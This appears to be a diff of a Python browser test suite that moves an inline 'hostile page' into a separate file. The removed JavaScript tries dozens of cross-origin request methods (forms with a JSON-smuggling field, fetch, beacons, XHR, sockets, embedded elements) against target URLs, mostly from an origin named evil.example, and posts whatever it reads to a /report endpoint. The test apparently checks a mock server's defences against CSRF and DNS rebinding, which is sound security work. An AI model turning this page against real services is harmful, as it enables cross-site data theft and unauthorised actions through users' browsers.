@@ -18,6 +18,7 @@ from starlette.types import ASGIApp, Message, Receive, Scope, Send
 from mock_server.wire.server import running
 from tests.admin.world import World
 from tests.e2e.chromium import BROWSER_TEST, CHROMIUM, FLAGS, VIRTUAL_TIME
+from tests.e2e.scripts import script
 
 pytestmark = BROWSER_TEST
 PATIENCE = 10_000
@@ -26,107 +27,7 @@ ROUTES = ("reset", "state", "sandboxes", "journal", "journal/stream")
 EVIL, REBOUND, PLAIN = "evil.example", "rebind.example", "mock"
 """Names that the browser is told to find on this machine."""
 
-PAGE = """<!doctype html><meta charset="utf-8"><body><script>
-const read = [], tried = [];
-const note = (how, text) => { if (text) read.push([how, String(text).slice(0, 999)]); };
-const later = () => new Promise((done) => setTimeout(done, %(patience)d));
-const text = (how, frame) => {
-  try { note(how, frame.document.body.innerText); } catch (error) {}
-};
-const put = (tag, fields) =>
-  document.body.appendChild(Object.assign(document.createElement(tag), fields));
-const ended = (thing, ...names) =>
-  new Promise((done) => names.forEach((name) => thing.addEventListener(name, done)));
-
-const form = (enctype) => async (url) => {
-  const name = "frame" + Math.random(), frame = put("iframe", {name});
-  const sent = put("form", {action: url, method: "post", enctype, target: name});
-  sent.append(Object.assign(document.createElement("input"),
-    {name: '{"apps": [], "x": "', value: '"}'}));
-  sent.submit();
-  await ended(frame, "load");
-  text("form", frame.contentWindow);
-};
-const call = (mode, method, type, more = {}) => async (url) => {
-  const body = method === "GET" ? undefined : '{"apps": []}';
-  const headers = {...(type && {"Content-Type": type}), ...more};
-  const answer = await fetch(url, {mode, method, body, headers, cache: "no-store"});
-  note("status of " + mode, answer.status);
-  note("fetch " + mode, await answer.text());
-};
-const beacon = (type) => async (url) => {
-  navigator.sendBeacon(url, new Blob(['{"apps": []}'], {type}));
-};
-const request = (method, type) => async (url) => {
-  const sent = new XMLHttpRequest();
-  sent.open(method, url);
-  if (type) sent.setRequestHeader("Content-Type", type);
-  sent.send(method === "GET" ? null : '{"apps": []}');
-  await ended(sent, "loadend");
-  note("status of xhr", sent.status);
-  note("xhr", sent.responseText);
-};
-const element = (tag, attribute, fields = {}) => async (url) => {
-  const it = put(tag, {...fields, [attribute]: url});
-  const event = await ended(it, "load", "error", "loadedmetadata");
-  if (it.contentWindow) text(tag, it.contentWindow);
-  else if (!tag.startsWith("e") && !/pre/.test(it.rel) && event.type !== "error")
-    note(tag, event.type);  // the others say so whatever was answered
-};
-const events = async (url) => {
-  const source = new EventSource(url);
-  for (const name of ["open", "message", "entry"])
-    source.addEventListener(name, (event) => note("events", event.data || name));
-  await ended(source, "error");
-  source.close();
-};
-const opened = async (url) => {
-  const other = window.open(url);
-  if (!other) throw new Error("no window was opened");
-  for (let left = 300; left; left--) {
-    await new Promise((done) => setTimeout(done, 10));
-    try { if (other.document.body.innerText) break; } catch (error) { break; }
-  }
-  text("window", other);
-  other.close();
-};
-const socket = async (url) => {
-  const it = new WebSocket(url.replace("http", "ws"));
-  it.onopen = it.onmessage = (event) => note("socket", event.data || "open");
-  await ended(it, "close");
-};
-
-const plain = "text/plain", json = "application/json";
-const attacks = {
-  form: form("application/x-www-form-urlencoded"),
-  formPlain: form(plain), formParts: form("multipart/form-data"),
-  blindGet: call("no-cors", "GET"), blindPost: call("no-cors", "POST", plain),
-  blindJson: call("no-cors", "POST", json),
-  get: call("cors", "GET"), postPlain: call("cors", "POST", plain),
-  post: call("cors", "POST", json), put: call("cors", "PUT", json),
-  remove: call("cors", "DELETE"),
-  guess: call("cors", "GET", json, {Authorization: "Bearer x"}),
-  beacon: beacon(plain), beaconForm: beacon("application/x-www-form-urlencoded"),
-  beaconJson: beacon(json),
-  xhrGet: request("GET"), xhrPost: request("POST", plain), xhrPut: request("PUT", json),
-  img: element("img", "src"), script: element("script", "src"),
-  module: element("script", "src", {type: "module"}),
-  link: element("link", "href", {rel: "stylesheet"}),
-  prefetch: element("link", "href", {rel: "prefetch"}),
-  preload: element("link", "href", {rel: "preload", as: "fetch"}),
-  iframe: element("iframe", "src"), object: element("object", "data"),
-  embed: element("embed", "src"), video: element("video", "src"),
-  events, opened, socket,
-};
-(async () => {
-  for (const url of %(urls)s)
-    await Promise.all(Object.entries(attacks).map(async ([name, attack]) => {
-      try { await Promise.race([attack(url), later()]); } catch (error) {}
-      tried.push(name);
-    }));
-  await fetch("/report", {method: "POST", body: JSON.stringify({read, tried})});
-})();
-</script>"""
+PAGE = script("hostile_page.html")
 
 
 @dataclass
